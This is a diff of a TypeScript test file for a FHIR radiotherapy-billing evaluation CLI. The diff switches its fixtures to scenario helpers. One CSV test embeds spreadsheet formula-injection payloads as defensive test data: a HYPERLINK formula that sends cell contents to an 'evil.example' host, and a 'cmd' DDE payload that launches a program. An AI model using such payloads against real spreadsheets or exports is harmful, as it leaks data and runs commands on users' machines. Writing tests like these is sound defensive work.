@@ -4,9 +4,8 @@ import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { todayAtClinic } from '../../src/dates.js';
 import { determineBundle } from '../../src/pipeline.js';
-import { CASES_DIR } from '../helpers/cases.js';
+import { SCENARIOS_DIR, scenarioFile } from '../helpers/cases.js';
 import {
-  CHARGE_CASES_DIR,
   cli,
   copyInto,
   goldenFiles,
@@ -25,7 +24,7 @@ import {
  */
 afterAll(removeTempDirs);
 
-const FILES = goldenFiles(CASES_DIR, CHARGE_CASES_DIR);
+const FILES = goldenFiles(SCENARIOS_DIR);
 const single = (file: string) =>
   JSON.parse(JSON.stringify(determineBundle(readJson(file), { asOf: todayAtClinic(null) }))) as Record<string, unknown>;
 const withoutPatient = ({ patient: _patient, ...rest }: Record<string, unknown>) => rest;
@@ -34,7 +33,7 @@ const hasCharges = (bundle: { entry?: { resource: { resourceType: string; use?: 
     ({ resource }) => resource.resourceType === 'ChargeItem' || (resource.resourceType === 'Claim' && resource.use === 'claim'),
   );
 
-describe('a folder of Bulk Data NDJSON written from each golden case', () => {
+describe('a folder of Bulk Data NDJSON written from each scenario', () => {
   it.each(FILES.map((f) => [f.split('/').pop()!, f]))('%s: the patient line equals the single-Bundle determination', async (_name, file) => {
     const dir = writeNdjsonExport(readJson(file), join(tempDir(), 'export'));
     const result = await cli(['evaluate', dir, '--format', 'ndjson']);
@@ -48,7 +47,7 @@ describe('a folder of Bulk Data NDJSON written from each golden case', () => {
 
 describe('a gzip-compressed export (.ndjson.gz)', () => {
   it('reads it as the plain one', async () => {
-    const file = join(CASES_DIR, 'acro-2-prostate-imrt-stereoscopic.bundle.json');
+    const file = scenarioFile('a2');
     const plain = writeNdjsonExport(readJson(file), join(tempDir(), 'plain'));
     const zipped = tempDir();
     for (const name of readdirSync(plain)) writeFileSync(join(zipped, `${name}.gz`), gzipSync(readFileSync(join(plain, name))));
@@ -58,7 +57,7 @@ describe('a gzip-compressed export (.ndjson.gz)', () => {
   });
 });
 
-describe('a folder of Bundles (every golden case, one patient each)', () => {
+describe('a folder of Bundles (every scenario, one patient each)', () => {
   it('one line per patient, each equal to its single-Bundle result, and the summary last', async () => {
     const dir = copyInto(tempDir(), FILES);
     const result = await cli(['evaluate', dir, '--format', 'ndjson']);
@@ -67,7 +66,7 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
     expect(lines).toHaveLength(FILES.length + 1);
     for (const file of FILES) {
       const line = withoutPatient(lines.find((l) => l.patient === patientOf(readJson(file)))!);
-      // The folder carries charges (the cases-charges Bundles): a patient with sessions and none of them is said so
+      // The folder carries charges (the scenarios on charges): a patient with sessions and none of them is said so
       // (B-NONE, spec v3), which its Bundle alone, holding no charges at all, does not say.
       const findings = line.findings as { rule: string }[];
       const expectNone = !hasCharges(readJson(file)) && (line.sessions as unknown[]).length > 0;
@@ -84,7 +83,7 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
   });
 
   it('a patient in two Bundles with identical copies (overlapping snapshots): one patient, each resource once, exit 0', async () => {
-    const file = join(CHARGE_CASES_DIR, 'b-missed-26.bundle.json');
+    const file = scenarioFile('cp');
     const dir = tempDir();
     writeFileSync(join(dir, 'monday.json'), readFileSync(file));
     writeFileSync(join(dir, 'tuesday.json'), readFileSync(file));
@@ -96,7 +95,7 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
   });
 
   it('the same copies written with their keys in another order, or another meta, are one resource: exit 0', async () => {
-    const file = join(CHARGE_CASES_DIR, 'b-missed-26.bundle.json');
+    const file = scenarioFile('cp');
     const reordered = readJson(file) as { entry: { resource: Record<string, unknown> }[] };
     for (const entry of reordered.entry)
       entry.resource = {
@@ -112,7 +111,7 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
   });
 
   it('a patient whose resources differ between two Bundles: never one kept silently, an error record naming both files, exit 3', async () => {
-    const file = join(CASES_DIR, 'acro-3-breast-vmat-cbct.bundle.json');
+    const file = scenarioFile('a3');
     const later = readJson(file) as { entry: { resource: { resourceType: string; performedPeriod?: { start: string } } }[] };
     for (const { resource } of later.entry)
       if (resource.resourceType === 'Procedure' && resource.performedPeriod) resource.performedPeriod.start = '2026-03-02T09:01:00Z';
@@ -132,8 +131,7 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
 
   it('a shared resource (a Practitioner) in two versions in an export: said once for the run, the patients still evaluated', async () => {
     const dir = join(tempDir(), 'export');
-    for (const name of ['acro-1-appa-2d-no-igrt', 'acro-3-breast-vmat-cbct'])
-      writeNdjsonExport(readJson(join(CASES_DIR, `${name}.bundle.json`)), dir);
+    for (const tag of ['a1', 'a3']) writeNdjsonExport(readJson(scenarioFile(tag)), dir);
     const practitioners = readFileSync(join(dir, 'Practitioner.ndjson'), 'utf8').trim().split('\n');
     const renamed = practitioners.map((line) => JSON.stringify({ ...(JSON.parse(line) as object), name: [{ family: 'Renamed' }] }));
     writeFileSync(join(dir, 'Practitioner.ndjson'), `${[...practitioners, ...renamed].join('\n')}\n`);
@@ -157,7 +155,7 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
   });
 
   it('--format csv: a header, one line per billable line or finding, formulas neutralised', async () => {
-    const dir = copyInto(tempDir(), [join(CHARGE_CASES_DIR, 'b-missed-26.bundle.json')]);
+    const dir = copyInto(tempDir(), [scenarioFile('cp')]);
     const result = await cli(['evaluate', dir, '--format', 'csv']);
     const rows = result.stdout.trim().split('\n');
     expect(rows[0]).toBe('patient,kind,session,date,fractions,code,units,status,rule,severity,amount_at_risk,message,evidence');
@@ -166,7 +164,7 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
   });
 
   it('--format csv: FHIR values that look like formulas (unresolved encounter references) are written as text', async () => {
-    const bundle = readJson(join(CASES_DIR, 'acro-2-prostate-imrt-stereoscopic.bundle.json')) as unknown as {
+    const bundle = readJson(scenarioFile('a2')) as unknown as {
       entry: { resource: { resourceType: string; encounter?: { reference: string } } }[];
     };
     const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0"];
@@ -193,30 +191,23 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
 describe('errors name the file and line, and lose no other patient', () => {
   const twoPatients = () => {
     const dir = join(tempDir(), 'export');
-    writeNdjsonExport(readJson(join(CASES_DIR, 'acro-1-appa-2d-no-igrt.bundle.json')), dir);
-    writeNdjsonExport(readJson(join(CHARGE_CASES_DIR, 'b-missed-26.bundle.json')), join(dir, '..', 'other'));
-    // Second patient's resources under other ids, appended to the same type files (as one export would hold them).
-    for (const type of ['Patient', 'Procedure', 'Encounter', 'ChargeItem']) {
-      const lines = readFileSync(join(dir, '..', 'other', `${type}.ndjson`), 'utf8');
-      appendFileSync(
-        join(dir, `${type}.ndjson`),
-        lines.replace(/"id":"(fx|enc|chg)-/g, '"id":"b-$1-').replace(/"(Procedure|Encounter)\/(fx|enc)-/g, '"$1/b-$2-'),
-      );
-    }
+    // Both patients in the same type files, as one export holds them (each scenario's ids are its own).
+    writeNdjsonExport(readJson(scenarioFile('a1')), dir);
+    writeNdjsonExport(readJson(scenarioFile('cp')), dir);
     return dir;
   };
 
   it('a malformed line: an error record with file and line (and its patient, not evaluated); the others evaluated; exit 3', async () => {
     const dir = twoPatients();
-    appendFileSync(join(dir, 'Procedure.ndjson'), '{"resourceType": "Procedure", "subject": {"reference": "Patient/pat-b-missed-26"}, oops\n');
+    appendFileSync(join(dir, 'Procedure.ndjson'), '{"resourceType": "Procedure", "subject": {"reference": "Patient/cp-pt-41708"}, oops\n');
     const result = await cli(['evaluate', dir, '--format', 'ndjson']);
     expect(result.code).toBe(3);
     const lines = ndjsonLines(result.stdout);
     const lineCount = readFileSync(join(dir, 'Procedure.ndjson'), 'utf8').trim().split('\n').length;
     expect(lines[0]).toEqual({
-      error: expect.objectContaining({ file: join(dir, 'Procedure.ndjson'), line: lineCount, patient: 'Patient/pat-b-missed-26' }),
+      error: expect.objectContaining({ file: join(dir, 'Procedure.ndjson'), line: lineCount, patient: 'Patient/cp-pt-41708' }),
     });
-    expect(lines.find((l) => l.patient === 'Patient/pat-acro-1-appa-2d-no-igrt')).toBeDefined();
+    expect(lines.find((l) => l.patient === 'Patient/a1-pt-40117')).toBeDefined();
     expect(lines.at(-1)).toMatchObject({ summary: { patients: 1, errors: 2 } });
     expect(result.stderr).toContain('2 error records');
   });
@@ -224,7 +215,7 @@ describe('errors name the file and line, and lose no other patient', () => {
   it('a resource that is not valid FHIR: an error record naming the patient, file, line and field; the others evaluated', async () => {
     const dir = twoPatients();
     const procedures = readFileSync(join(dir, 'Procedure.ndjson'), 'utf8').trim().split('\n');
-    const bad = procedures.findIndex((l) => l.includes('pat-b-missed-26'));
+    const bad = procedures.findIndex((l) => l.includes('cp-pt-41708'));
     procedures[bad] = procedures[bad]!.replace('"status":"completed"', '"status":"finished-ish"');
     writeFileSync(join(dir, 'Procedure.ndjson'), `${procedures.join('\n')}\n`);
     const result = await cli(['evaluate', dir, '--format', 'ndjson']);
@@ -232,13 +223,13 @@ describe('errors name the file and line, and lose no other patient', () => {
     const error = ndjsonLines(result.stdout).find((l) => 'error' in l) as {
       error: { patient: string; issues: { path: string; file: string; line: number }[] };
     };
-    expect(error.error.patient).toBe('Patient/pat-b-missed-26');
+    expect(error.error.patient).toBe('Patient/cp-pt-41708');
     expect(error.error.issues[0]).toMatchObject({
-      path: expect.stringMatching(/^Procedure\/b-fx-\d\.status$/),
+      path: expect.stringMatching(/^Procedure\/cp-fx-\d\.status$/),
       file: join(dir, 'Procedure.ndjson'),
       line: bad + 1,
     });
-    expect(ndjsonLines(result.stdout).some((l) => l.patient === 'Patient/pat-acro-1-appa-2d-no-igrt')).toBe(true);
+    expect(ndjsonLines(result.stdout).some((l) => l.patient === 'Patient/a1-pt-40117')).toBe(true);
   });
 
   it('a file listed in the export that cannot be read: an error record, the rest evaluated, exit 3', async () => {
@@ -325,9 +316,9 @@ describe('NDJSON keeps one record a line for every reader (U+2028, U+2029, NEL i
   /** Where Python's str.splitlines (and readers like it) end a line besides \n (its others, \v \f \x1c-\x1e, JSON escapes). */
   const UNICODE_LINE_BREAKS = /\r\n|[\n\r\x85\u2028\u2029]/;
   const SEPARATORS = 'Encounter/one\u2028two\u2029three\u0085four';
-  /** acro-2 with its fractions naming an encounter by a reference that holds the three separators (kept as written). */
+  /** a2 with its fractions naming an encounter by a reference that holds the three separators (kept as written). */
   const hostileDepartment = () => {
-    const bundle = readJson(join(CASES_DIR, 'acro-2-prostate-imrt-stereoscopic.bundle.json')) as unknown as {
+    const bundle = readJson(scenarioFile('a2')) as unknown as {
       entry: { resource: { resourceType: string; encounter?: { reference: string } } }[];
     };
     for (const { resource } of bundle.entry)
@@ -370,7 +361,7 @@ describe('NDJSON keeps one record a line for every reader (U+2028, U+2029, NEL i
 
 describe('a single Bundle file', () => {
   it('--format json prints its determination, the JSON the direct API answers (no summary around it)', async () => {
-    const file = join(CHARGE_CASES_DIR, 'b-missed-26.bundle.json');
+    const file = scenarioFile('cp');
     const result = await cli(['evaluate', file]);
     expect(result.code).toBe(0);
     expect(JSON.parse(result.stdout)).toEqual(single(file));
